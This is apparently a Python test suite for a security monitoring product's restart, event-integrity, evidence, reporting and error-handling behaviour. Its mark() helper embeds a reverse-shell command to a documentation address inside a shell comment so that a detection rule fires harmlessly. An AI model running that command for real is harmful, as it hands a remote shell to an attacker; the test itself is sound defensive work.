"""The thread with real processes: killed outright, nothing acknowledged is lost; evidence, report, errors."""

import json
import os
import signal
import subprocess
import sys
import time
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pypdf
import pytest

from detection.store.event_store import EventStore
from detection.store.state import state_of
from running_center import RunningCenter, environment, start, until

pytestmark = pytest.mark.slow


def mark(nonce: str) -> None:
    """An exec that the host sensor sees and a rule matches; harmless: a comment of a sleeping shell."""
    text = f"sleep 2 # {nonce} bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    subprocess.run(["/bin/sh", "-c", text], check=True)


def seen(center: RunningCenter, nonce: str) -> bool:
    found = center.cli("hunt", f"process.command_line:*{nonce}*", "--limit", "1", "--since", "1h")
    return nonce in found.stdout


@pytest.mark.parametrize("name", ["ingest,detect,store", "api,jobs", "sensors/host"])
def test_a_process_killed_outright_comes_back_and_the_thread_goes_on(
    center: RunningCenter, name: str
) -> None:
    before = center.child(name)
    assert before
    os.kill(before, signal.SIGKILL)
    nonce = f"mark{before}"
    until(lambda: center.child(name) not in (0, before) and _up(center, name), 60)
    time.sleep(2)  # a fresh host sensor has its first look round
    mark(nonce)
    until(lambda: seen(center, nonce), 60, step=1)


def _up(center: RunningCenter, name: str) -> bool:
    return name != "api,jobs" or json.loads(center.cli("center", "status", "--json").stdout)["serving"]


def test_a_supervisor_killed_outright_leaves_nothing_behind_and_starts_again(center: RunningCenter) -> None:
    children = [
        center.child(name) for name in ("ingest,detect", "api,jobs", "sensors/host", "sensors/network")
    ]
    assert all(children)
    center.process.kill()
    center.process.wait()
    until(lambda: not any(_alive(child) for child in children), 30)
    center.process = start(center.data, center.output, center.arguments)
    until(lambda: "console   http" in center.output.read_text(), 90)
    assert "one-time login" not in center.output.read_text()
    mark("afterwards")
    until(lambda: seen(center, "afterwards"), 60, step=1)


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_no_acknowledged_event_is_lost_or_doubled(center: RunningCenter) -> None:
    store = EventStore(center.data, state_of(center.data))
    sequences: dict[str, list[int]] = defaultdict(list)
    for event in store.since(datetime.now(UTC) - timedelta(days=1)):
        # Bytes 12..36 of an id: sensor, boot epoch, lane; the rest counts within them without a hole.
        sequences[event.id[12:29]].append(int(event.id[29:], 16))
    store.close()
    assert len(sequences) >= 4, "two sensors, restarted, each with more than one lane"
    for place, numbers in sequences.items():
        assert len(numbers) == len(set(numbers)), f"{place}: doubled"
        assert sorted(numbers) == list(range(min(numbers), max(numbers) + 1)), f"{place}: a hole"


def test_evidence_verifies_and_a_changed_byte_is_found(center: RunningCenter, tmp_path: Path) -> None:
    done = center.cli("evidence", "verify", "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    kit = tmp_path / "kit.zip"
    assert center.cli("evidence", "export", "--output", str(kit)).returncode == 0
    copy = tmp_path / "copy"
    subprocess.run(["cp", "-r", str(center.data), str(copy)], check=True)
    leaves = copy / "evidence" / "leaves.log"
    data = bytearray(leaves.read_bytes())
    data[len(data) // 2] ^= 1
    leaves.write_bytes(data)
    command = [sys.executable, "-m", "soc_api.cli", "evidence", "verify", "--data", str(copy)]
    broken = subprocess.run(command, capture_output=True, text=True, check=False, env=environment())
    assert broken.returncode == 1
    assert broken.stdout + broken.stderr


def test_the_monthly_report_by_command(center: RunningCenter, tmp_path: Path) -> None:
    month = datetime.now(UTC).strftime("%Y-%m")
    done = center.cli("report", "monthly", "--month", month, "--output", str(tmp_path))
    assert done.returncode == 0, done.stderr
    pdf, docx, xlsx = (Path(line) for line in done.stdout.splitlines())
    assert len(pypdf.PdfReader(pdf).pages) >= 4
    assert docx.read_bytes().startswith(b"PK")
    assert xlsx.read_bytes().startswith(b"PK")
    wrong = center.cli("report", "monthly", "--month", "2999-01", "--output", str(tmp_path))
    assert wrong.returncode == 2
    assert "report-month" in wrong.stderr


def test_live_checks_have_verdicts(center: RunningCenter) -> None:
    from compliance.check_store import CheckStore

    kept = CheckStore(state_of(center.data)).newest("local")
    assert len(kept) == 74
    live = [one for one in kept.values() if one.evaluation.findings]
    decided = [one for one in live if one.evaluation.verdict != "未知"]
    assert len(decided) >= 12, {one.evaluation.check: one.evaluation.reason.zh for one in live}


def test_a_second_center_here_and_a_taken_port_are_one_clear_line(
    center: RunningCenter, tmp_path: Path
) -> None:
    second = center.cli("center", "run")
    assert (second.returncode, second.stderr.count("\n")) == (3, 1)
    assert "center-running" in second.stderr
    port = center.url.rsplit(":", 1)[1].strip("/")
    other = ["center", "run", "--init", "--data", str(tmp_path / "other"), "--console-port", port]
    taken = subprocess.run(
        [sys.executable, "-m", "soc_api.cli", *other],
        capture_output=True,
        text=True,
        check=False,
        env=environment(),
    )
    assert taken.returncode == 3
    assert f"port {port} is in use" in taken.stderr


def test_no_write_permission_is_one_clear_line(tmp_path: Path) -> None:
    folder = tmp_path / "file"
    folder.write_text("not a folder")
    command = [sys.executable, "-m", "soc_api.cli", "center", "init", "--data", str(folder / "center")]
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=environment())
    assert (done.returncode, done.stderr.count("\n")) == (3, 1), done.stderr


def test_a_full_disk_is_one_clear_line(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "soc_api.cli", "center", "init", "--data"]
    mount = tmp_path / "small"
    mount.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True, check=False
    )
    if mounted.returncode:
        pytest.skip("mounting a small tmpfs needs root")
    try:
        done = subprocess.run(
            [*command, str(mount / "center")], capture_output=True, text=True, check=False, env=environment()
        )
        assert done.returncode == 3, done.stderr
        assert done.stderr.count("\n") == 1, done.stderr
    finally:
        subprocess.run(["umount", str(mount)], check=True)
